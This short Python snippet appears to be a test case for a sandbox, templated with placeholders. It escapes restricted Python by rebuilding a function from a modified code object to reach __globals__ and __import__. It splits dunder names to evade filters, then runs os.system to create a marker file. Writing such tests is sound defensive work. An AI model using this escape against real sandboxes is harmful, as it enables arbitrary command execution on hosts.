# escape: one-argument type() of a function is FunctionType, which builds a function from a code object and globals
# effect: marker
def reader(o):
    return o.placeholder
F = type(reader)
code = getattr(reader, "__co" + "de__").replace(co_names=("__globals__",))
g = F(code, {{}})(reader)
b = g["__builtins__"]
imp = b["__import__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
imp("os").system("touch {marker}")
return "done"
